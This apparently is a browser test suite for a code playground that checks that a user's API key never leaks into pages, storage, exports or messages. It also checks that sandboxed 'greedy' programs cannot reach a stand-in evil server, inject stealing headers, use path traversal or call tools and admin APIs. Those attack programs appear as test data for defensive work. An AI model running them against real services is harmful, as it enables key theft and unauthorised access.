/**
 * The key, from the field where it is typed to the last answer: where it may be, and that it is nowhere else. And a live
 * program that tries to have more than it is given: another address, headers, tools, files.
 */
import { readFileSync } from "node:fs";
import { deflateRawSync } from "node:zlib";
import type { BrowserContext, Page } from "playwright";
import { expect as expectPage } from "playwright/test";
import { describe, expect, test } from "vitest";
import type { Language } from "../../src/trace/event.ts";
import { madeOnce } from "../browser/made-once.ts";
import { Bench } from "../browser/site/bench.ts";
import { usualLanguages, type Reader } from "../browser/site/reader.ts";
import { withSite } from "../browser/site/stage.ts";
import type { Behaviour } from "../live/behaviours.ts";
import { keepInPage } from "../live/broker-in-page.ts";
import { startFakeEndpoint } from "../live/fake-endpoint.ts";
import { startEvilServer } from "./evil-server.ts";

const stage = withSite();
const endpoint = madeOnce(startFakeEndpoint, (one) => one.close());
const evil = madeOnce(startEvilServer, (one) => one.close());
/** With a sign that JSON and addresses may escape. */
const key = "sk-proj-attack/0123456789";
const isKeyIn = (text: string): boolean =>
  [key, encodeURIComponent(key), key.replace("/", "\\/"), btoa(key), key.slice(8)].some((form) => text.includes(form));

/** Everything that any page, frame or console of this context says, from now on. */
async function overhear(context: BrowserContext): Promise<string[]> {
  const heard: string[] = [];
  await context.exposeBinding("overhear", (_source, text: string) => void heard.push(text));
  await context.addInitScript(() => {
    const { overhear } = globalThis as unknown as { readonly overhear: (text: string) => void };
    const note = (how: string, data: unknown): void => overhear(`${how} ${JSON.stringify([data])}`);
    interface Poster {
      postMessage: (...given: unknown[]) => void;
    }
    for (const owner of [MessagePort.prototype, BroadcastChannel.prototype, Worker.prototype] as unknown as Poster[]) {
      const { postMessage } = owner;
      owner.postMessage = function (this: unknown, ...given: unknown[]): void {
        note("post", given[0]);
        Reflect.apply(postMessage, this, given);
      };
    }
    // What arrives here was sent by a window or by a worker, whose own ways are not wrapped.
    addEventListener("message", ({ data }) => note("window", data), true);
    const handler = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage");
    Object.defineProperty(MessagePort.prototype, "onmessage", {
      ...handler,
      set(this: MessagePort, listener: ((event: MessageEvent) => void) | null) {
        const listening = (event: MessageEvent): void => {
          note("port", event.data);
          listener?.call(this, event);
        };
        handler?.set?.call(this, listening);
      },
    });
  });
  context.on("console", (message) => heard.push(`console ${message.text()}`));
  context.on("weberror", (error) => heard.push(`error ${String(error.error())}`));
  context.on("request", (request) => {
    heard.push(`address ${request.url()}`);
    // Requests to the endpoint have the key in one header, and nowhere else; others must not have it at all.
    if (!request.url().startsWith(endpoint().origin)) heard.push(`headers ${JSON.stringify(request.headers())}`);
    heard.push(`body ${request.postData() ?? ""}`);
  });
  return heard;
}

/** All that stands in the documents of a page, typed values included, and what they keep. */
async function documentsOf(page: Page): Promise<string[]> {
  const parts: string[] = [page.url()];
  for (const frame of page.frames()) {
    parts.push(await frame.content(), frame.url(), frame.name());
    const values = await frame
      .evaluate(() =>
        [
          ...[...document.querySelectorAll<HTMLInputElement>("input, textarea, select, output")].map(
            ({ value }) => value,
          ),
          JSON.stringify(history.state),
          window.name,
          document.cookie.length === 0 ? "" : document.cookie,
        ].join("\n"),
      )
      .catch(() => "");
    parts.push(values);
  }
  return parts;
}

/** What the browser keeps for the site, by area. */
function keptOf(
  page: Page,
): Promise<{ local: string; tab: string; databases: readonly unknown[]; caches: readonly string[] }> {
  return page.evaluate(async () => ({
    local: JSON.stringify(Object.entries(localStorage)),
    tab: JSON.stringify(Object.entries(sessionStorage)),
    databases: await indexedDB.databases(),
    caches: await caches.keys(),
  }));
}

/** Type endpoint and key as a reader does. */
async function typeKey({ page, open }: Reader, behaviour: Behaviour): Promise<void> {
  await open("/settings/");
  await page.getByRole("textbox", { name: "Base URL" }).fill(endpoint().baseUrl(behaviour));
  await page.getByLabel("API key").fill(key);
  await page.getByRole("combobox", { name: "Model" }).fill("mock");
  await page.getByRole("button", { name: "Try it" }).click();
  await expectPage(page.locator(".verdict")).not.toBeEmpty({ timeout: 20_000 });
}

const askAll: Readonly<Record<Language, string>> = {
  python: `from openai import OpenAI
client = OpenAI(max_retries=0)
print(client.api_key)
try:
    print(client.chat.completions.create(model="mock", messages=[{"role": "user", "content": "hi"}]))
except Exception as error:
    print(repr(error), getattr(error, "body", ""), dict(error.response.headers) if hasattr(error, "response") else "")
raise ValueError("the end")`,
  typescript: `import OpenAI from "openai";
const client = new OpenAI({ maxRetries: 0 });
try {
  console.log(client.apiKey);
  const answer = await client.chat.completions.create({ model: "mock", messages: [{ role: "user", content: "hi" }] }).asResponse();
  console.log(await answer.text(), [...answer.headers]);
} catch (error: any) {
  console.log(String(error), JSON.stringify(error), error.headers && [...error.headers]);
}
throw new Error("the end");`,
};

describe("the key", () => {
  test.each([
    ["python", "echo"],
    ["typescript", "echo-error"],
  ] as const)(
    "is nowhere but where it was put, also when the endpoint says it back: %s, %s",
    async (language, behaviour) => {
      const reader = await stage.newReader({ language, hasTouch: true, acceptDownloads: true });
      const { page, context } = reader;
      const heard = await overhear(context);
      await typeKey(reader, behaviour);
      await page.getByRole("radio", { name: /^Live/ }).check();
      const before = endpoint().requests.length;
      expect((await documentsOf(page)).filter(isKeyIn)).toEqual([]);

      await reader.open("/playground/");
      const bench = Bench.only(page);
      await bench.write(askAll[language]);
      expect(await bench.run()).toBe("failed");
      const sent = endpoint().requests.slice(before);
      expect(sent.length).toBeGreaterThan(0);
      expect(sent.filter(({ headers }) => headers.authorization !== `Bearer ${key}`)).toEqual([]);
      await bench.button("Show the events, one by one").click();
      for (const fold of await page.locator("details").all())
        await fold.evaluate((one: HTMLDetailsElement) => (one.open = true));
      expect((await documentsOf(page)).filter(isKeyIn)).toEqual([]);
      // It was answered, and the answer's key was taken out.
      expect((await bench.printed()).join("\n")).toContain("[your key]");

      await page.getByRole("button", { name: "Share" }).click();
      const link = await page.getByRole("textbox", { name: "Link to this program" }).inputValue();
      const exports = [link, await page.evaluate(() => navigator.clipboard.readText())];
      for (const form of [/^JSON/, /^Chrome/]) {
        await page.getByRole("button", { name: "Download trace" }).click();
        const [file] = await Promise.all([
          page.waitForEvent("download"),
          page.getByRole("button", { name: form }).click(),
        ]);
        exports.push(readFileSync(await file.path(), "utf8"), file.suggestedFilename());
      }
      expect(exports.join("").length).toBeGreaterThan(1_000);
      expect(exports.filter(isKeyIn)).toEqual([]);

      const { local, tab, databases, caches } = await keptOf(page);
      expect(isKeyIn(local)).toBe(false);
      const inTab = (JSON.parse(tab) as readonly (readonly [string, string])[]).filter(([, value]) => isKeyIn(value));
      expect(inTab.map(([name]) => name)).toEqual(["unblocked.key"]);
      expect([databases, caches]).toEqual([[], []]);

      // All that was said by anybody meanwhile: messages of pages, frames and workers, consoles, addresses, bodies.
      for (const how of ["post", "port", "window", "address"])
        expect(heard.some((line) => line.startsWith(how))).toBe(true);
      expect(heard.filter((line) => /"type":"ask"/.test(line)).length).toBeGreaterThan(1);
      expect(heard.filter(isKeyIn)).toEqual([]);
      await reader.close();
    },
  );
});

/** Wants another server, other headers, the account's tools and files. `EVIL` is the evil server's. */
const greedy: Readonly<Record<Language, string>> = {
  python: `from openai import OpenAI
headers = {"X-Steal": "1", "OpenAI-Organization": "org-evil", "Authorization": "Bearer evil", "Cookie": "a=b"}
client = OpenAI(api_key="evil", base_url="EVIL/v1", default_headers=headers, max_retries=0)
def attempt(name, **body):
    try:
        client.chat.completions.create(**{"model": "mock", "messages": [{"role": "user", "content": "hi"}], **body})
        print(name, "answered")
    except Exception as error:
        print(name, "refused", type(error).__name__)
image = {"type": "image_url", "image_url": {"url": "EVIL/image"}}
attempt("elsewhere")
attempt("extra", extra_body={"store": True, "metadata": {"a": "b"}, "service_tier": "priority", "user": "x", "n": 50, "max_tokens": 10**9})
attempt("image", messages=[{"role": "user", "content": [image, {"type": "text", "text": "look"}]}])
attempt("query", extra_query={"url": "EVIL/query"})
for name, body in {
    "web search": {"tools": [{"type": "web_search"}]},
    "mcp": {"tools": [{"type": "mcp", "server_label": "x", "server_url": "EVIL/mcp"}]},
    "file": {"input": [{"role": "user", "content": [{"type": "input_file", "file_id": "file-1"}]}]},
    "image by address": {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": "EVIL/image"}]}]},
    "background": {"background": True},
}.items():
    try:
        client.responses.create(**{"model": "mock", "input": "hi", **body})
        print(name, "answered")
    except Exception as error:
        print(name, "refused", type(error).__name__)
for name, call in {
    "files": lambda: client.files.list(),
    "fine-tuning": lambda: client.fine_tuning.jobs.list(),
    "path": lambda: client.post("/../../admin", cast_to=object, body={}),
    "address": lambda: client.post("EVIL/direct", cast_to=object, body={}),
    "delete": lambda: client.models.delete("mock"),
}.items():
    try:
        call()
        print(name, "answered")
    except Exception as error:
        print(name, "refused", type(error).__name__)
`,
  typescript: `import OpenAI from "openai";
const defaultHeaders = { "X-Steal": "1", "OpenAI-Organization": "org-evil", Authorization: "Bearer evil", Cookie: "a=b" };
const client = new OpenAI({ apiKey: "evil", baseURL: "EVIL/v1", defaultHeaders, maxRetries: 0, dangerouslyAllowBrowser: true });
async function attempt(name: string, call: () => PromiseLike<unknown>) {
  try { await call(); console.log(name, "answered"); } catch (error: any) { console.log(name, "refused", error.constructor.name); }
}
const chat = (more: any, options: any = {}) => () => client.chat.completions.create({ model: "mock", messages: [{ role: "user", content: "hi" }], ...more }, options);
const respond = (more: any) => () => client.responses.create({ model: "mock", input: "hi", ...more });
await attempt("elsewhere", chat({}));
await attempt("extra", chat({ store: true, metadata: { a: "b" }, service_tier: "priority", user: "x", n: 50, max_tokens: 1e9 }));
await attempt("image", chat({ messages: [{ role: "user", content: [{ type: "image_url", image_url: { url: "EVIL/image" } }, { type: "text", text: "look" }] }] }));
await attempt("query", chat({}, { query: { url: "EVIL/query" } }));
await attempt("web search", respond({ tools: [{ type: "web_search" }] }));
await attempt("mcp", respond({ tools: [{ type: "mcp", server_label: "x", server_url: "EVIL/mcp" }] }));
await attempt("file", respond({ input: [{ role: "user", content: [{ type: "input_file", file_id: "file-1" }] }] }));
await attempt("image by address", respond({ input: [{ role: "user", content: [{ type: "input_image", image_url: "EVIL/image" }] }] }));
await attempt("background", respond({ background: true }));
await attempt("files", () => client.files.list());
await attempt("fine-tuning", () => client.fineTuning.jobs.list());
await attempt("path", () => client.post("/../../admin", { body: {} }));
await attempt("address", () => client.post("EVIL/direct", { body: {} }));
await attempt("delete", () => client.models.delete("mock"));
await attempt("own fetch", () => fetch("EVIL/fetch", { method: "POST", body: "x" }));
`,
};

/** What may be in a body that leaves: the broker's own list is longer, these are what these programs may send. */
const harmless =
  /^(model|messages|input|n|max_tokens|max_completion_tokens|max_output_tokens|store|stream|stream_options)$/;

describe.each(usualLanguages)("a greedy live program in %s", (language) => {
  test("gets what a live program gets: its text to the reader's endpoint, under the reader's caps", async () => {
    evil().reset();
    endpoint().redirectTo = `${evil().origin}/redirected`;
    const reader = await stage.newReader({ language, hasTouch: true });
    const { page } = reader;
    await reader.open("/playground/");
    await keepInPage(page, { baseUrl: endpoint().baseUrl("good"), model: "mock" }, key);
    await page.reload();
    const before = endpoint().requests.length;
    const bench = Bench.only(page);
    await bench.write(greedy[language].replaceAll("EVIL", evil().origin));
    await bench.run();
    const printed = await bench.printed();
    const sent = endpoint().requests.slice(before);
    expect(evil().hits).toEqual([]);
    expect(evil().counts).toEqual({ connections: 0, packets: 0 });
    for (const name of [
      "web search",
      "mcp",
      "file",
      "image by address",
      "files",
      "fine-tuning",
      "path",
      "address",
      "delete",
    ]) {
      expect(printed.filter((line) => line.startsWith(`${name} `)).join()).toMatch(/ refused /);
    }
    for (const { method, path, headers, body } of sent) {
      expect(`${method} ${path}`).toMatch(/^POST \/(chat\/completions|responses)$/);
      expect(headers.authorization).toBe(`Bearer ${key}`);
      expect(Object.keys(headers).filter((name) => /steal|organization|cookie|stainless/i.test(name))).toEqual([]);
      expect(body).not.toMatch(/image|file|mcp|web_search|127\.0\.0\.1|metadata|priority|background/);
      const fields = Object.keys(JSON.parse(body) as object);
      expect(fields.filter((name) => !harmless.test(name))).toEqual([]);
      expect(body).not.toContain('"store":true');
    }
    expect(sent.length).toBeGreaterThan(0);
    await reader.close();
  });
});

test("Stop hangs up on the endpoint at once", async () => {
  const reader = await stage.newReader({ language: "typescript", hasTouch: true });
  const { page } = reader;
  await reader.open("/playground/");
  await keepInPage(page, { baseUrl: endpoint().baseUrl("silent"), model: "mock" }, key);
  await page.reload();
  const bench = Bench.only(page);
  await bench.write(askAll.typescript);
  const [hungUp, asked] = [endpoint().hungUp(), endpoint().requests.length];
  await bench.button("Run").click();
  await expect.poll(() => endpoint().requests.length, { timeout: 30_000 }).toBe(asked + 1);
  await bench.button("Stop").click();
  await endpoint().untilHungUp(hungUp + 1, 2_000);
  await reader.close();
});

test("a link cannot bring an endpoint, a key or a live run with it", async () => {
  const reader = await stage.newReader();
  const { page } = reader;
  await reader.open("/playground/");
  await keepInPage(page, { baseUrl: endpoint().baseUrl("good"), model: "mock" }, key);
  const source = `${askAll.python}\n`;
  const wish = {
    v: 1,
    language: "python",
    source,
    mode: "live",
    baseUrl: evil().origin,
    key: "sk-x",
    caps: { usdPerRun: 1000 },
  };
  const packed = deflateRawSync(JSON.stringify(wish)).toString("base64url");
  await page.goto("about:blank");
  await page.goto(stage.site.at(`/playground/?mode=live&baseUrl=${evil().origin}#code=${packed}`));
  const before = endpoint().requests.length;
  // A click that no hand has made opens the question, at most; it cannot answer it.
  await page.evaluate(() => {
    for (const each of document.querySelectorAll<HTMLElement>("button"))
      if (each.textContent.trim() === "Run") each.click();
  });
  await page.waitForTimeout(500);
  await page.evaluate(() => {
    for (const each of document.querySelectorAll<HTMLElement>("dialog button, [data-keep], [data-banner] button")) {
      each.click();
      each.dispatchEvent(new MouseEvent("click", { bubbles: true }));
      each.dispatchEvent(new PointerEvent("pointerdown", { bubbles: true }));
    }
    for (const form of document.querySelectorAll<HTMLFormElement>("dialog form")) form.requestSubmit();
  });
  await page.waitForTimeout(1_000);
  expect(endpoint().requests.length).toBe(before);
  expect((await keptOf(page)).local).not.toContain(evil().origin);
  await reader.close();
});
